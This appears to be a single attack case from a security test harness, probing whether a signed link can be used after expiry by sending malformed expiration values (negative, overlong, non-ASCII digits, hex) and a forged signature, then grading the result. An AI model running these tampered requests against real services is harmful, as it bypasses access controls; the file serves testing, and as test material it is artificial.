# aim: use a link after its time
# mechanism: an end that is no number: a sign, a fraction, other digits, very many
# server: links
# plain: naive

def attack():
    answer = next((answer for end in ("-1", "1e99", "٣", "9" * 400, " 99999999999", "0x7fffffff") if (answer := request("GET", link_to(signature_expiration=quote(end)))).is_good), request("GET", link_to(signature="x")))
    return answer.is_good and b"everybody" not in answer.body and f"the link is good: {answer.body[:100]!r}"


judge(attack)
